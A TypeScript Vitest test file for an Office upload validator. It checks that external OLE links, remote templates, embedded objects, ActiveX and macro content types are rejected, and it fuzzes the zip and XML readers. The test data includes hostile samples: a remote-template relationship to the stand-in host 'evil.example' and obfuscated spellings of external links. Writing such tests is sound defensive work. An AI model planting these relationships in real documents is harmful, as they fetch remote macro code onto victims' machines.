import { beforeAll, describe, expect, it } from 'vitest';
import { inspectDocx } from '../storage/inspect-docx';
import { buildTemplate } from './build-template';
import { makeZip, repackXlsx, sampleSpec, type ZipInput } from './excel.test-support';
import { inspectXlsx, type XlsxInspection } from './inspect-xlsx';

const MB = 1024 * 1024;
const limits = { maxBytes: 5 * MB };
const R = 'http://schemas.openxmlformats.org/package/2006/relationships';
const OD = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const CHINESE = /[\u4e00-\u9fa5]/;
let template: Buffer;
beforeAll(async () => {
  template = await buildTemplate(sampleSpec());
});

const outcome = (r: XlsxInspection) => (r.ok ? 'OK' : r.code);
const withSheetRels = (rels: string) =>
  repackXlsx(template, (entries) =>
    entries.map((e) => (e.name === 'xl/worksheets/_rels/sheet1.xml.rels' ? { ...e, data: rels } : e)),
  );

const docxOf = (extra: ZipInput[] = [], settingsRels?: string) =>
  makeZip([
    {
      name: '[Content_Types].xml',
      data: '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
    },
    { name: 'word/document.xml', data: '<w:document/>' },
    ...(settingsRels ? [{ name: 'word/_rels/settings.xml.rels', data: settingsRels }] : []),
    ...extra,
  ]);

describe('Office packages read with a namespace-aware parser', () => {
  it('refuses an external relationship however the XML spells it', () => {
    const spellings = [
      // another namespace prefix
      `<p:Relationships xmlns:p="${R}"><p:Relationship Id="r1" Type="${OD}/oleObject" Target="file:///C:/x.xlsx" TargetMode="External"/></p:Relationships>`,
      // single quotes and spaces around '='
      `<Relationships xmlns="${R}"><Relationship Id='r1' Type='${OD}/oleObject' Target='x.xlsx' TargetMode = 'External'/></Relationships>`,
      // character references in the value
      `<Relationships xmlns="${R}"><Relationship Id="r1" Type="${OD}/oleObject" Target="x" TargetMode="Extern&#97;&#x6C;"/></Relationships>`,
    ];
    for (const rels of spellings) expect(outcome(inspectXlsx(withSheetRels(rels), limits)), rels).toBe('EXTERNAL_LINK');
    const hyperlink = `<Relationships xmlns="${R}"><Relationship Id="r1" Type="${OD}/hyperlink" Target="https://example.cn" TargetMode="External"/></Relationships>`;
    expect(outcome(inspectXlsx(withSheetRels(hyperlink), limits))).toBe('OK');
  });

  it('refuses a relationships part that is not well-formed XML, in Chinese', () => {
    const r = inspectXlsx(withSheetRels(`<Relationships xmlns="${R}"><Relationship Id="r1"`), limits);
    expect(outcome(r)).toBe('CORRUPT');
    expect(r.ok ? '' : r.message).toMatch(/不是格式正确的 XML/);
    expect(inspectDocx(docxOf([], '<Relationships xmlns="&bogus;">'))).toMatch(/不是格式正确的 XML/);
  });

  it('refuses a docx with a remote template, an embedded OLE object, ActiveX or a macro content type', () => {
    expect(inspectDocx(docxOf())).toBeNull();
    const remoteTemplate = `<Relationships xmlns="${R}"><Relationship Id="r1" Type="${OD}/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>`;
    expect(inspectDocx(docxOf([], remoteTemplate))).toMatch(/远程模板/);
    expect(inspectDocx(docxOf([{ name: 'word/embeddings/oleObject1.bin', data: 'x' }]))).toMatch(/嵌入对象/);
    expect(inspectDocx(docxOf([{ name: 'word/activeX/activeX1.xml', data: '<ax/>' }]))).toMatch(/控件/);
    const macroTypes = makeZip([
      {
        name: '[Content_Types].xml',
        data: '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
      },
      { name: 'word/document.xml', data: '<w:document/>' },
    ]);
    expect(inspectDocx(macroTypes)).toMatch(/宏/);
  });
});

/** A small deterministic generator (mulberry32), so a failing mutation can be replayed from its seed. */
function random(seed: number): () => number {
  return () => {
    seed = (seed + 0x6d2b79f5) | 0;
    let x = Math.imul(seed ^ (seed >>> 15), 1 | seed);
    x = (x + Math.imul(x ^ (x >>> 7), 61 | x)) ^ x;
    return ((x ^ (x >>> 14)) >>> 0) / 4294967296;
  };
}

/** Truncates, flips bytes, or garbles an XML part of a valid file. */
function mutate(buf: Buffer, next: () => number): Buffer {
  const kind = Math.floor(next() * 3);
  if (kind === 0) return buf.subarray(0, Math.floor(next() * buf.length));
  if (kind === 1) {
    const out = Buffer.from(buf);
    for (let i = 0; i < 1 + Math.floor(next() * 8); i++) {
      out[Math.floor(next() * out.length)] = Math.floor(next() * 256);
    }
    return out;
  }
  return repackXlsx(buf, (entries) =>
    entries.map((e) => {
      if (!e.name.endsWith('.xml') && !e.name.endsWith('.rels')) return e;
      if (next() > 0.3) return e;
      const text = Buffer.from(e.data);
      const at = Math.floor(next() * text.length);
      return { ...e, data: Buffer.concat([text.subarray(0, at), Buffer.from('<&"\u0000'), text.subarray(at + 3)]) };
    }),
  );
}

describe('fuzzing the zip and XML readers (bounded)', () => {
  it('answers every malformed or truncated file with a Chinese refusal or an acceptance, never a crash', () => {
    const docx = docxOf([], `<Relationships xmlns="${R}"/>`);
    const next = random(20261207);
    for (let i = 0; i < 300; i++) {
      const xlsx = mutate(template, next);
      const r = inspectXlsx(xlsx, limits);
      if (!r.ok) expect(r.message, `xlsx mutation ${i}`).toMatch(CHINESE);
      const d = mutate(docx, next);
      const problem = inspectDocx(d);
      if (problem !== null) expect(problem, `docx mutation ${i}`).toMatch(CHINESE);
    }
  });
});
